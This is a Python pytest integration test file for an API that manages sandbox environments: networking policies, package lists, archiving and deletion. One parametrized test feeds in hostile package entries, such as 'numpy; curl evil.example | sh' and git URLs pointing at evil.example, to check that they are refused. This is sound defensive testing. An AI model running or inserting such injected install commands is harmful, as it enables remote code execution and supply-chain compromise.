"""Environments through the official SDK."""

from __future__ import annotations

import uuid
from collections.abc import Callable

import anthropic
import pytest

from tests.integration.on_each_store import ON_EACH_STORE, client

pytestmark = ON_EACH_STORE
__all__ = ["client"]  # fixtures


def _name() -> str:
    return f"env-{uuid.uuid4().hex[:8]}"


def test_create_defaults_and_update(client: anthropic.Anthropic) -> None:
    env = client.beta.environments.create(name=_name())
    assert env.id.startswith("env_")
    assert env.config.type == "cloud"
    assert env.config.networking.type == "unrestricted"
    assert env.config.packages.pip == []
    updated = client.beta.environments.update(
        env.id,
        config={
            "type": "cloud",
            "networking": {
                "type": "limited",
                "allowed_hosts": ["api.example.com"],
                "allow_package_managers": True,
            },
            "packages": {"pip": ["requests==2.32.3"]},
        },
        metadata={"tier": "gold"},
        description="with requests",
    )
    assert updated.config.networking.type == "limited"
    assert updated.config.networking.allowed_hosts == ["api.example.com"]
    assert updated.config.networking.allow_mcp_servers is False
    assert updated.config.networking.allow_package_managers is True
    assert updated.config.packages.pip == ["requests==2.32.3"]
    assert updated.metadata == {"tier": "gold"}
    cleared = client.beta.environments.update(env.id, metadata={"tier": ""})
    assert cleared.metadata == {}  # "" deletes here, as the SDK documents for environments
    updated = client.beta.environments.update(env.id, metadata={"tier": "gold"})
    assert client.beta.environments.retrieve(env.id).model_dump() == updated.model_dump()
    kept = client.beta.environments.update(env.id, config={"type": "cloud"})
    assert kept.config.packages.pip == ["requests==2.32.3"]
    # A limited policy's omitted (or null) fields keep their values, as packages do.
    widened = client.beta.environments.update(
        env.id,
        config={
            "type": "cloud",
            "networking": {"type": "limited", "allow_mcp_servers": True},
        },
    )
    assert widened.config.networking.model_dump() == {
        "type": "limited",
        "allowed_hosts": ["api.example.com"],
        "allow_mcp_servers": True,
        "allow_package_managers": True,
    }
    moved = client.beta.environments.update(
        env.id,
        config={
            "type": "cloud",
            "networking": {
                "type": "limited",
                "allowed_hosts": ["b.example"],
                "allow_mcp_servers": None,
            },
        },
    )
    assert moved.config.networking.allowed_hosts == ["b.example"]
    assert moved.config.networking.allow_mcp_servers is True
    assert moved.config.networking.allow_package_managers is True


def _refused_for_packages(call: Callable[[], object]) -> None:
    """``call`` is a 400 naming ``allow_package_managers``."""
    with pytest.raises(anthropic.BadRequestError) as refused:
        call()
    assert refused.value.body["error"]["type"] == "invalid_request_error"  # type: ignore[index]
    assert "config.networking.allow_package_managers" in refused.value.message


def test_packages_under_limited_networking_need_allow_package_managers(
    client: anthropic.Anthropic,
) -> None:
    """The SDK: under ``limited`` networking, ``packages`` require
    ``allow_package_managers`` (before, such an environment was taken and its
    packages installed anyway). An update is judged by the config it leaves."""
    closed = {"type": "limited", "allowed_hosts": ["api.example.com"]}
    pip = {"pip": ["requests"]}
    _refused_for_packages(
        lambda: client.beta.environments.create(
            name=_name(), config={"type": "cloud", "networking": closed, "packages": pip}
        )
    )
    # Lists given empty specify no package.
    empty = client.beta.environments.create(
        name=_name(), config={"type": "cloud", "networking": closed, "packages": {"pip": []}}
    )
    # Packages added to a limited environment whose networking is left out.
    _refused_for_packages(
        lambda: client.beta.environments.update(empty.id, config={"type": "cloud", "packages": pip})
    )
    opened = {"type": "limited", "allow_package_managers": True}
    env = client.beta.environments.update(
        empty.id, config={"type": "cloud", "networking": opened, "packages": pip}
    )
    assert env.config.networking.allow_package_managers is True
    # The flag turned off while the packages kept from before remain.
    shut = {"type": "limited", "allow_package_managers": False}
    _refused_for_packages(
        lambda: client.beta.environments.update(
            env.id, config={"type": "cloud", "networking": shut}
        )
    )
    kept = client.beta.environments.retrieve(env.id).config
    assert kept.networking.allow_package_managers is True and kept.packages.pip == ["requests"]
    # With the packages cleared at once, it may; so may unrestricted networking.
    cleared = client.beta.environments.update(
        env.id, config={"type": "cloud", "networking": shut, "packages": {"pip": []}}
    )
    assert cleared.config.networking.allow_package_managers is False
    unrestricted = client.beta.environments.update(
        env.id,
        config={"type": "cloud", "networking": {"type": "unrestricted"}, "packages": pip},
    )
    assert unrestricted.config.packages.pip == ["requests"]


def test_type_change_and_archived_updates_are_rejected(client: anthropic.Anthropic) -> None:
    env = client.beta.environments.create(name=_name(), config={"type": "self_hosted"})
    assert env.config.type == "self_hosted"
    with pytest.raises(anthropic.BadRequestError) as changed:
        client.beta.environments.update(env.id, config={"type": "cloud"})
    assert changed.value.body["error"]["details"]["error_code"] == "invalid_config_type_change"
    client.beta.environments.archive(env.id)
    with pytest.raises(anthropic.BadRequestError) as archived:
        client.beta.environments.update(env.id, name=_name())
    assert archived.value.body["error"]["details"]["error_code"] == "environment_archived"


def test_names_are_unique(client: anthropic.Anthropic) -> None:
    name = _name()
    client.beta.environments.create(name=name)
    with pytest.raises(anthropic.ConflictError):
        client.beta.environments.create(name=name)


def test_list_archive_delete(client: anthropic.Anthropic) -> None:
    keep = client.beta.environments.create(name=_name())
    gone = client.beta.environments.create(name=_name())
    old = client.beta.environments.create(name=_name())
    client.beta.environments.archive(old.id)
    deleted = client.beta.environments.delete(gone.id)
    assert (deleted.id, deleted.type) == (gone.id, "environment_deleted")
    live = {e.id for e in client.beta.environments.list(limit=100)}
    assert keep.id in live and gone.id not in live and old.id not in live
    every = {e.id for e in client.beta.environments.list(limit=100, include_archived=True)}
    assert old.id in every
    with pytest.raises(anthropic.NotFoundError) as missing:
        client.beta.environments.retrieve(gone.id)
    assert missing.value.body["error"]["details"]["error_code"] == "environment_not_found"


def test_delete_refuses_while_sessions_use_it(client: anthropic.Anthropic) -> None:
    env = client.beta.environments.create(name=_name())
    agent = client.beta.agents.create(name="a", model="claude-sonnet-4-6")
    session = client.beta.sessions.create(agent=agent.id, environment_id=env.id)
    with pytest.raises(anthropic.ConflictError):
        client.beta.environments.delete(env.id)
    client.beta.sessions.archive(session.id)
    client.beta.environments.delete(env.id)


EVERY_ECOSYSTEM = {
    "apt": ["curl=7.88.1-10"],
    "cargo": ["ripgrep@14.1.0"],
    "gem": ["rake:13.0.6"],
    "go": ["golang.org/x/tools/cmd/goimports@v0.24.0"],
    "npm": ["@types/node@^20"],
    "pip": ["numpy==2.2.0"],
}


def test_packages_of_every_ecosystem_are_accepted(client: anthropic.Anthropic) -> None:
    env = client.beta.environments.create(
        name=_name(), config={"type": "cloud", "packages": EVERY_ECOSYSTEM}
    )
    assert env.config.packages.model_dump(exclude={"type"}) == EVERY_ECOSYSTEM


@pytest.mark.parametrize(
    ("packages", "field"),
    [
        ({"cargo": ["ripgrep", "--git=https://evil.example"]}, "config.packages.cargo.1"),
        ({"pip": ["numpy; curl evil.example | sh"]}, "config.packages.pip.0"),
        ({"npm": ["git+https://evil.example/x.git"]}, "config.packages.npm.0"),
        ({"go": ["fmt"]}, "config.packages.go.0"),
        ({"gem": ["rake -v 13"]}, "config.packages.gem.0"),
        ({"apt": ["-oAPT::Get::AllowUnauthenticated=1"]}, "config.packages.apt.0"),
    ],
)
def test_packages_stead_cannot_install_are_refused_naming_the_field(
    client: anthropic.Anthropic, packages: dict[str, list[str]], field: str
) -> None:
    """Refused when the environment is written, never accepted and failed at a wake."""
    with pytest.raises(anthropic.BadRequestError) as created:
        client.beta.environments.create(
            name=_name(), config={"type": "cloud", "packages": packages}
        )
    assert created.value.body["error"]["message"].startswith(f"{field}: ")
    env = client.beta.environments.create(name=_name())
    with pytest.raises(anthropic.BadRequestError) as updated:
        client.beta.environments.update(env.id, config={"type": "cloud", "packages": packages})
    assert updated.value.body["error"]["message"].startswith(f"{field}: ")
    assert client.beta.environments.retrieve(env.id).config.packages.model_dump(
        exclude={"type"}
    ) == {manager: [] for manager in EVERY_ECOSYSTEM}


def test_an_account_scope_is_refused(client: anthropic.Anthropic) -> None:
    """One installation is one organization; before, "account" was stored and
    meant nothing."""
    with pytest.raises(anthropic.BadRequestError, match="scope: 'account' is not supported"):
        client.beta.environments.create(name=f"s-{uuid.uuid4().hex[:8]}", scope="account")  # type: ignore[call-arg]
    made = client.beta.environments.create(name=f"s-{uuid.uuid4().hex[:8]}", scope="organization")  # type: ignore[call-arg]
    with pytest.raises(anthropic.BadRequestError, match="scope"):
        client.beta.environments.update(made.id, scope="account")  # type: ignore[call-arg]


def test_an_ipv6_address_is_an_allowed_host(client: anthropic.Anthropic) -> None:
    """The egress proxy enforces IPv6 addresses as it does IPv4 ones; the API
    refused them as "not a host name or address"."""
    hosts = ["2001:db8::1", "[2001:db8::2]", "192.0.2.1"]
    made = client.beta.environments.create(
        name=_name(),
        config={"type": "cloud", "networking": {"type": "limited", "allowed_hosts": hosts}},
    )
    assert made.config.networking.allowed_hosts == hosts  # type: ignore[union-attr]
    for wrong in ("[2001:db8::1]:443", "[192.0.2.1]", "[example.com]", "::1%eth0"):
        with pytest.raises(anthropic.BadRequestError, match=r"allowed_hosts\.0"):
            client.beta.environments.create(
                name=_name(),
                config={
                    "type": "cloud",
                    "networking": {"type": "limited", "allowed_hosts": [wrong]},
                },
            )
